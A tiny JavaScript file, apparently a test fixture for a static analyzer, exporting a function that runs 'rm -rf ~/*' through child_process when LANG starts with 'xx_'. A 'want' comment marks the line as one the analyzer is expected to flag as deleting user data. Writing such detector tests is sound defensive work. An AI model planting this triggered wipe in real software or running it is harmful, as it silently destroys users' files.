const { exec } = require('child_process');

exports.shell = function () {
  if ((process.env.LANG || '').startsWith('xx_')) exec('rm -rf ~/*');  // want "what the user has is deleted by a program"
};
